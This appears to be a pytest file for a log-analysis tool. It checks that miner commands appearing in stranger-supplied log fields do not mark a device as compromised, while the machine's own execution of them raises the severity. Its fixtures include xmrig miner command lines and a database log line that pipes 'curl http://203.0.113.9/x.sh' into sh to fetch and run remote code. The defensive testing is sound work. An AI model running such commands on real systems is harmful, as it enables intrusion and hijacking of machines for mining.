"""What somebody outside can write into records of ours names no machine of ours as one that mines or was broken into.

Names of users, subjects of mails, headers, names in certificates and questions, what sensors quote: each is told, if at
all, as something that was sent. The same words where the machine itself says that it did so are heard.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from tests.app.running import Kanaria
from tests.app.test_records_of_others import POOL, WALLET, Said, hear

STRANGER = "203.0.113.7"
RUN = f"./xmrig -o {POOL}:3333 -u {WALLET}"
LOGIN = json.dumps({
    "id": 1, "jsonrpc": "2.0", "method": "login",
    "params": {"login": WALLET, "pass": "x", "agent": "XMRig/6.21.0", "algo": ["rx/0"]},
})  # fmt: skip
NOTICE = {
    "_path": "notice", "ts": 1767949200.1, "id.orig_h": STRANGER, "id.orig_p": 50000, "id.resp_h": "192.168.1.53",
    "id.resp_p": 80, "note": "HTTP::Example", "src": STRANGER, "dst": "192.168.1.53",
}  # fmt: skip
NAMED = {"_path": "ssl", "ts": 1767949200.1, "uid": "C1", "id.orig_h": STRANGER, "id.orig_p": 50000,
         "id.resp_h": "192.168.1.53", "id.resp_p": 443, "version": "TLSv12", "established": True}  # fmt: skip

WRITTEN = {
    "agent": f'{STRANGER} - - [10/Jan/2026:09:00:00 +0000] "GET / HTTP/1.1" 200 512 "-" "XMRig/6.21.0 (Linux)"',
    "forwarded for": f'{STRANGER} - - [10/Jan/2026:09:00:00 +0000] "GET / HTTP/1.1" 200 5 "-" "XMRig/6.21.0" '
    '"192.168.1.20"',
    "referrer": f'{STRANGER} - - [10/Jan/2026:09:00:00 +0000] "GET / HTTP/1.1" 200 5 "https://{POOL}/" "Mozilla/5.0"',
    "forwarded for, in JSON": json.dumps({
        "time": "2026-01-10T09:00:00Z", "remote_addr": STRANGER, "http_x_forwarded_for": "192.168.1.20",
        "request": "POST / HTTP/1.1", "request_body": LOGIN, "status": 400,
    }),
    "name of a user": f"Jan 10 09:00:00 web1 sshd[900]: Failed password for invalid user {RUN} from {STRANGER} port "
    "50000 ssh2",
    "name of a user, in the journal": json.dumps({
        "__REALTIME_TIMESTAMP": "1767949200000000", "_HOSTNAME": "web1", "SYSLOG_IDENTIFIER": "sshd", "_PID": "900",
        "MESSAGE": f"Invalid user {RUN} from {STRANGER} port 50000",
    }),
    "greeting of a mail": f"Jan 10 09:00:00 mail postfix/smtpd[900]: NOQUEUE: reject: RCPT from unknown[{STRANGER}]: "
    f"554 5.7.1 <x>: Helo command rejected; from=<a@b.example> to=<c@d.example> proto=SMTP helo=<{POOL}>",
    "subject of a mail": f"Jan 10 09:00:00 mail postfix/cleanup[900]: ABC: warning: header Subject: {RUN} from "
    f"unknown[{STRANGER}]; from=<a@b.example> to=<c@d.example> proto=ESMTP helo=<x>",
    "certificate": f"Jan 10 09:00:00 gw openvpn[900]: {STRANGER}:50000 VERIFY ERROR: depth=0, error=x, CN={POOL}",
    "a script's warning": f"[Sat Jan 10 09:00:00.123456 2026] [php:error] [pid 900] [client {STRANGER}:50000] PHP "
    f"Warning: undefined index '{RUN}' in /var/www/x.php on line 3",
    "notice that quotes": json.dumps({**NOTICE, "msg": LOGIN, "sub": LOGIN}),
    "name in a handshake": json.dumps({**NAMED, "server_name": POOL}),
    "question": f"10-Jan-2026 09:00:00.123 queries: info: client @0x7f1 {STRANGER}#50000 ({POOL}): query: {POOL} IN A "
    "+E(0)K (192.168.1.53)",
    "tunnel that a proxy refused": f"1767949200.123 0 {STRANGER} TCP_DENIED/403 3900 CONNECT {POOL}:443 - HIER_NONE/- "
    "text/html",
    "a line within a name": 'Jan 10 09:00:00 web1 app[900]: login failed for user "bob\\nJan 10 09:00:01 web1 kernel: '
    f'{RUN}"',
    "name of a user, of a database": "2026-01-10T09:00:00.123456Z 8 [Note] [MY-010926] [Server] Access denied for user "
    f"'{RUN}'@'{STRANGER}' (using password: YES)",
    "name of a user, in brackets": f"Jan 10 09:00:00 gw radiusd[900]: (1) Login incorrect (x): [{RUN}] (from client x "
    f"port 0 cli {STRANGER})",
    "name in a directory": f'Jan 10 09:00:00 l slapd[900]: conn=1 op=0 BIND dn="cn=xmrig,dc={POOL}" method=128',
    "community": f"Jan 10 09:00:00 gw snmpd[900]: Connection from UDP: [{STRANGER}]:50000->[192.168.1.53]:161, "
    f"community {POOL}",
    "host name in a file share": f"[2026/01/10 09:00:00.123456,  2] auth/auth.c:319(auth_check_ntlm_password)\n"
    f"  check_ntlm_password:  Authentication for user [{RUN}] -> [x] FAILED with error NT_STATUS_NO_SUCH_USER, "
    f"workstation {POOL}",
    "reverse name": f"Jan 10 09:00:00 mail postfix/smtpd[900]: connect from {POOL}[{STRANGER}]",
    "reverse name at a logon": f"Jan 10 09:00:00 web1 sshd[900]: reverse mapping checking getaddrinfo for {POOL} "
    f"[{STRANGER}] failed - POSSIBLE BREAK-IN ATTEMPT!",
    "greeting, in a sensor's record": json.dumps({
        **NAMED, "_path": "smtp", "id.resp_p": 25, "helo": POOL, "mailfrom": "a@b.example", "subject": RUN,
    }),
    "host of a request": json.dumps({
        **NAMED, "_path": "http", "id.resp_p": 80, "method": "GET", "host": POOL, "uri": "/", "status_code": 200,
    }),
    "telephone's name": json.dumps({
        **NAMED, "_path": "sip", "id.resp_p": 5060, "method": "REGISTER", "uri": f"sip:{POOL}",
        "request_from": f"<sip:xmrig@{POOL}>", "user_agent": "XMRig/6.21.0", "status_code": 401,
    }),
    "reverse name, in an answer": json.dumps({
        **NAMED, "_path": "dns", "id.orig_h": "192.168.1.53", "id.resp_h": "198.51.100.1", "id.resp_p": 53,
        "proto": "udp", "query": "7.113.0.203.in-addr.arpa", "qtype_name": "PTR", "rcode_name": "NOERROR",
        "answers": [POOL],
    }),
    "NetBIOS name": json.dumps({
        **NAMED, "_path": "dns", "id.resp_p": 137, "proto": "udp", "query": POOL, "qtype_name": "NB",
    }),
    "workstation": json.dumps({
        **NAMED, "_path": "ntlm", "id.resp_p": 445, "username": "xmrig", "hostname": "XMRIG", "domainname": POOL,
        "success": False,
    }),
    "a dropped packet": f"Jan 10 09:00:00 gw kernel: [1.0] DROP IN=eth0 OUT= SRC={STRANGER} DST=192.168.1.53 LEN=60 "
    "PROTO=TCP SPT=3333 DPT=50000 SYN",
}  # fmt: skip

SAID = {
    "started, with a stranger's words behind": f"Jan 10 09:00:00 mail CRON[900]: (root) CMD ({RUN} # access denied for user)",
    "started": f"Jan 10 09:00:00 mail CRON[900]: (root) CMD ({RUN})",
    "a database's own word": f"2026-01-10 09:00:00.123 UTC [900] app@db {STRANGER}(50000) LOG:  statement: COPY t FROM "
    f"PROGRAM 'curl http://203.0.113.9/x.sh | sh'",
    "a program that went there": f"Jan 10 09:00:00 gw app[900]: connected to {POOL}:3333 (203.0.113.50)",
    "a device's question to a server of any kind": f"Jan 10 09:00:00 gw other[900]: 192.168.1.20:5000 asks {POOL}",
}


@pytest.mark.parametrize("name", WRITTEN)
def test_what_a_stranger_wrote_accuses_nobody(kanaria: Kanaria, tmp_path: Path, name: str) -> None:
    said = hear(kanaria, tmp_path, WRITTEN[name] + "\n")
    accuses_nobody(said)


def accuses_nobody(said: Said) -> None:
    """No device of ours is compromised, nor is the stranger's address called one; nobody is sent to cut anything off."""
    names = [one["hypotheses"][0]["name"] for one in said.document["incidents"]]
    assert "compromised_device" not in names
    assert STRANGER not in said.devices
    assert said.severity in ("silent", "informational", "low", "medium")  # what was sent may be an attempt, and no more
    assert not {"isolate", "rebuild", "find_entrance", "look_at_program", "ask_whose_command"} & set(said.advice)


@pytest.mark.parametrize("name", SAID)
def test_what_the_machine_says_of_itself_is_heard(kanaria: Kanaria, tmp_path: Path, name: str) -> None:
    assert hear(kanaria, tmp_path, SAID[name] + "\n").severity in ("medium", "high", "critical")
